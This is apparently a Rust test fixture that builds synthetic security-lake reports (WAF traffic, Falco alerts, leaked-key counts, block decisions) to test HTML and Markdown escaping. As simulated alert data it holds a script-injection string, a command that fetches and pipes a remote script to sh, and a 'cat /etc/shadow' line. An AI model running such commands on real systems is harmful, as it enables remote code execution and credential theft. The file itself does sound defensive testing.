//! Reports built by hand for the render and browser tests: a busy day whose
//! strings try to break out of HTML and Markdown, and a day without data.
// Each test binary that includes this module uses a part of it.
#![allow(dead_code)]

use chrono::{DateTime, Duration, FixedOffset, NaiveDate, TimeZone, Utc};
use seclake_queries::Report;
use seclake_queries::report::{
    App, AppRoute, AttackType, Attacker, BlockDecision, Country, CriticalAlert, Falco, FalcoGroup,
    FalcoPriority, FalcoRule, Hour, LeakedKey, ThreatLevel, Traffic, WafRule,
};

/// A string that would run script if it were not escaped.
pub const SCRIPT: &str = r#"<script>alert("pwned")</script>"#;
/// A Falco output with markup, quotes and an ampersand.
pub const FALCO_OUTPUT: &str = r#"Shell spawned in container (user=root cmd=sh -c "echo <b>hi</b> && id" parent=<script>alert("pwned")</script> container_id=3f2a'9c)"#;
/// A command line with shell metacharacters and a long unbroken token.
pub const CMDLINE: &str = "sh -c curl -fsSL http://198.51.100.23:8080/x.sh|sh; echo dGhpcyBpcyBhIHZlcnkgbG9uZyBiYXNlNjQgcGF5bG9hZCB0aGF0IGhhcyBubyBzcGFjZXMgYXQgYWxsIGFuZCBtdXN0IHdyYXA=";
/// An AS organisation with HTML and Markdown metacharacters.
pub const AS_ORG: &str = r#"Evil & Co <"Hosting"> | *bulletproof*"#;
/// A WAF rule name with a table pipe.
pub const WAF_RULE: &str = "AWSManagedRulesSQLiRuleSet|SQLi_BODY";

const SEOUL: i32 = 9 * 3600;

fn utc(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

/// 2026-11-29 in Asia/Seoul: WAF traffic in every hour, Falco alerts with
/// critical ones, two leaked keys and a busy commerce API.
pub fn busy_day() -> Report {
    let start = utc("2026-11-28T15:00:00Z");
    let seoul = FixedOffset::east_opt(SEOUL).unwrap();
    let timeline: Vec<Hour> = (0..24u64)
        .map(|h| {
            // A daily curve with a burst of blocked requests at 03:00.
            let allowed = 20_000 + 35_000 * (12 - (h as i64 - 14).abs()).max(0) as u64 + 137 * h;
            let blocked = if h == 3 { 41_250 } else { 1_200 + 311 * h };
            let counted = 400 + 17 * h;
            let captcha = if h % 4 == 0 { 120 + h } else { 0 };
            let challenge = if h % 6 == 1 { 75 } else { 0 };
            Hour {
                start: seoul.from_utc_datetime(&(start + Duration::hours(h as i64)).naive_utc()),
                allowed,
                blocked,
                counted,
                captcha,
                challenge,
                total: allowed + blocked + counted + captcha + challenge,
            }
        })
        .collect();
    let sum = |f: fn(&Hour) -> u64| timeline.iter().map(f).sum::<u64>();
    let requests = sum(|h| h.total);
    let blocked = sum(|h| h.blocked);
    let traffic = Traffic {
        requests,
        allowed: sum(|h| h.allowed),
        blocked,
        counted: sum(|h| h.counted),
        captcha: sum(|h| h.captcha),
        challenge: sum(|h| h.challenge),
        unique_ips: 48_213,
        blocked_pct: blocked as f64 * 100.0 / requests as f64,
    };
    let attacker =
        |ip: &str, iso: &str, asn: i64, org: &str, requests: u64, blocked: u64, score: i32| {
            Attacker {
                client_ip: ip.to_owned(),
                country_iso: Some(iso.to_owned()),
                asn: Some(asn),
                as_org: Some(org.to_owned()),
                requests,
                blocked,
                max_threat_score: score,
            }
        };
    let top_attackers = vec![
        attacker("203.0.113.77", "NL", 64_501, AS_ORG, 52_114, 39_870, 97),
        attacker(
            "198.51.100.23",
            "US",
            14_061,
            "DigitalOcean, LLC",
            8_320,
            6_041,
            88,
        ),
        attacker(
            "2001:db8:85a3::8a2e:370:7334",
            "DE",
            24_940,
            "Hetzner Online GmbH",
            3_977,
            3_512,
            81,
        ),
        attacker("192.0.2.200", "CN", 4_134, "Chinanet", 2_410, 1_998, 74),
        Attacker {
            client_ip: "10.20.30.40".to_owned(),
            country_iso: None,
            asn: None,
            as_org: None,
            requests: 1_187,
            blocked: 903,
            max_threat_score: 66,
        },
    ];
    let mut new_attacker = top_attackers[0].clone();
    new_attacker.requests = 0; // new_attackers.sql selects no request count
    let falco_critical = vec![
        CriticalAlert {
            ts: utc("2026-11-29T05:04:03Z"),
            priority: Some("Critical".to_owned()),
            rule: Some("Terminal shell in container".to_owned()),
            hostname: Some("ip-10-0-3-17.ap-northeast-2.compute.internal".to_owned()),
            namespace: Some("shop".to_owned()),
            pod: Some("checkout-7d9f8b6c5-x2kqp".to_owned()),
            container_image: Some(
                "123456789012.dkr.ecr.ap-northeast-2.amazonaws.com/shop/checkout-service-with-a-very-long-repository-name:2026.11.28-4f1c2e9".to_owned(),
            ),
            proc_cmdline: Some(CMDLINE.to_owned()),
            output: Some(FALCO_OUTPUT.to_owned()),
        },
        CriticalAlert {
            ts: utc("2026-11-28T16:30:00Z"),
            priority: Some("Emergency".to_owned()),
            rule: Some("Read sensitive file <untrusted>".to_owned()),
            hostname: Some("ip-10-0-1-5".to_owned()),
            namespace: None,
            pod: None,
            container_image: None,
            proc_cmdline: Some("cat /etc/shadow".to_owned()),
            output: Some(SCRIPT.to_owned()),
        },
    ];
    let route = |route: &str, requests: u64, server_errors: u64, p: [f64; 3]| AppRoute {
        route: route.to_owned(),
        requests,
        server_errors,
        error_rate_pct: server_errors as f64 * 100.0 / requests as f64,
        p50_ms: Some(p[0]),
        p95_ms: Some(p[1]),
        p99_ms: Some(p[2]),
    };
    let routes = vec![
        route(
            "GET /api/products/{id}",
            412_339,
            1_204,
            [12.5, 87.25, 240.0],
        ),
        route("POST /api/orders", 58_120, 911, [48.0, 1_203.5, 3_417.75]),
        route(
            "GET /api/search?q=<q>&page=|n|",
            33_870,
            12,
            [4.25, 9.5, 31.0],
        ),
        AppRoute {
            route: "GET /healthz".to_owned(),
            requests: 8_640,
            server_errors: 0,
            error_rate_pct: 0.0,
            p50_ms: None,
            p95_ms: None,
            p99_ms: None,
        },
    ];
    let app_requests: u64 = 530_114;
    let server_errors: u64 = 2_301;
    Report {
        date: NaiveDate::from_ymd_opt(2026, 11, 29).unwrap(),
        tz: "Asia/Seoul".to_owned(),
        start,
        end: utc("2026-11-29T15:00:00Z"),
        generated_at: utc("2026-11-30T00:05:00Z"),
        lake: "s3://acme-security-lake/seclake".to_owned(),
        empty: false,
        traffic,
        top_countries: vec![
            Country {
                country_iso: Some("KR".to_owned()),
                country_name: Some("South Korea".to_owned()),
                requests: 802_115,
                blocked: 12_406,
            },
            Country {
                country_iso: Some("US".to_owned()),
                country_name: Some("United States".to_owned()),
                requests: 161_993,
                blocked: 20_377,
            },
            Country {
                country_iso: Some("NL".to_owned()),
                country_name: Some("The Netherlands & <Friends>".to_owned()),
                requests: 61_020,
                blocked: 44_160,
            },
            Country {
                country_iso: None,
                country_name: None,
                requests: 9_871,
                blocked: 1_105,
            },
        ],
        top_attackers,
        new_attackers: vec![new_attacker],
        history_days: 7,
        waf_rules: vec![
            WafRule {
                rule: WAF_RULE.to_owned(),
                action: "BLOCK".to_owned(),
                attack_type: Some("sqli".to_owned()),
                hits: 40_112,
                client_ips: 311,
            },
            WafRule {
                rule: "RateLimit-<login>".to_owned(),
                action: "BLOCK".to_owned(),
                attack_type: None,
                hits: 21_876,
                client_ips: 57,
            },
            WafRule {
                rule: "AWSManagedRulesCommonRuleSet#CrossSiteScripting_QUERYARGUMENTS".to_owned(),
                action: "COUNT".to_owned(),
                attack_type: Some("xss".to_owned()),
                hits: 9_950,
                client_ips: 1_024,
            },
        ],
        attack_types: vec![
            AttackType {
                attack_type: "sqli".to_owned(),
                hits: 40_112,
                blocked: 39_990,
                client_ips: 311,
            },
            AttackType {
                attack_type: "rate_limit".to_owned(),
                hits: 21_876,
                blocked: 21_876,
                client_ips: 57,
            },
            AttackType {
                attack_type: "xss <svg onload=x>".to_owned(),
                hits: 9_950,
                blocked: 0,
                client_ips: 1_024,
            },
        ],
        timeline,
        threat_levels: vec![
            level("app", "low", 21_004),
            level("app", "high", 88),
            level("falco", "critical", 14),
            level("falco", "medium", 350),
            level("waf", "critical", 5_540),
            level("waf", "high", 30_007),
            level("waf", "low", 1_100_432),
            level("waf", "medium", 98_588),
        ],
        falco: Falco {
            alerts: 1_873,
            by_priority: vec![
                priority("Emergency", 1),
                priority("Critical", 13),
                priority("Error", 97),
                priority("Warning", 1_410),
                priority("Notice", 352),
            ],
            rules: vec![
                FalcoRule {
                    rule: Some("Terminal shell in container".to_owned()),
                    alerts: 1_402,
                    critical: 13,
                    hosts: 12,
                },
                FalcoRule {
                    rule: Some("Read sensitive file <untrusted>".to_owned()),
                    alerts: 471,
                    critical: 1,
                    hosts: 3,
                },
            ],
            hosts: vec![
                group(
                    Some("ip-10-0-3-17.ap-northeast-2.compute.internal"),
                    1_001,
                    9,
                ),
                group(Some("ip-10-0-1-5"), 872, 5),
            ],
            namespaces: vec![group(Some("shop"), 1_650, 13), group(None, 223, 1)],
            critical: falco_critical,
        },
        leaked_credentials: vec![
            LeakedKey {
                key_redacted: "AKIA************MPLE".to_owned(),
                records: 37,
                first_seen: utc("2026-11-28T23:12:45Z"),
                last_seen: utc("2026-11-29T08:59:01Z"),
                routes: 2,
                users: 5,
            },
            LeakedKey {
                key_redacted: "ASIA************7Q2Z".to_owned(),
                records: 3,
                first_seen: utc("2026-11-29T11:00:00Z"),
                last_seen: utc("2026-11-29T11:02:30Z"),
                routes: 1,
                users: 1,
            },
        ],
        blocks: vec![
            BlockDecision {
                ts: utc("2026-11-29T10:41:07Z"),
                decision: "blocked".to_owned(),
                client_ip: "185.220.101.47".to_owned(),
                country_iso: Some("DE".to_owned()),
                asn: Some(208_294),
                as_org: Some("Tor exit <relay> & co".to_owned()),
                threat_score: 80,
                threat_level: "critical".to_owned(),
                trigger: Some("level critical".to_owned()),
                reasons: Some(
                    "waf.action.block +30, waf.group.sqli +25, ua.scanner +25".to_owned(),
                ),
                message: Some(
                    "blocked 185.220.101.47/32 until 2026-11-30T10:41:07Z (level critical)"
                        .to_owned(),
                ),
            },
            BlockDecision {
                ts: utc("2026-11-29T09:02:11Z"),
                decision: "allow_listed".to_owned(),
                client_ip: "203.0.113.7".to_owned(),
                country_iso: None,
                asn: None,
                as_org: None,
                threat_score: 85,
                threat_level: "critical".to_owned(),
                trigger: None,
                reasons: Some(
                    "waf.action.block +30, waf.label.log4j +30, ua.scanner +25".to_owned(),
                ),
                message: Some(
                    "not blocked: 203.0.113.7 is in the allow-list entry 203.0.113.7/32".to_owned(),
                ),
            },
        ],
        app: App {
            requests: app_requests,
            server_errors,
            client_errors: 14_882,
            error_rate_pct: server_errors as f64 * 100.0 / app_requests as f64,
            orders: 6_021,
            revenue_krw: 418_937_500,
            routes,
        },
    }
}

/// The same day with nothing in the lake, as `report::build` makes it.
pub fn empty_day() -> Report {
    let busy = busy_day();
    Report {
        empty: true,
        traffic: Traffic::default(),
        top_countries: Vec::new(),
        top_attackers: Vec::new(),
        new_attackers: Vec::new(),
        waf_rules: Vec::new(),
        attack_types: Vec::new(),
        timeline: busy
            .timeline
            .iter()
            .map(|h| Hour {
                start: h.start,
                ..Hour::default()
            })
            .collect(),
        threat_levels: Vec::new(),
        falco: Falco::default(),
        leaked_credentials: Vec::new(),
        blocks: Vec::new(),
        app: App::default(),
        ..busy
    }
}

fn level(source: &str, threat_level: &str, events: u64) -> ThreatLevel {
    ThreatLevel {
        source: source.to_owned(),
        threat_level: threat_level.to_owned(),
        events,
    }
}

fn priority(name: &str, alerts: u64) -> FalcoPriority {
    FalcoPriority {
        priority: Some(name.to_owned()),
        alerts,
    }
}

fn group(name: Option<&str>, alerts: u64, critical: u64) -> FalcoGroup {
    FalcoGroup {
        name: name.map(str::to_owned),
        alerts,
        critical,
    }
}
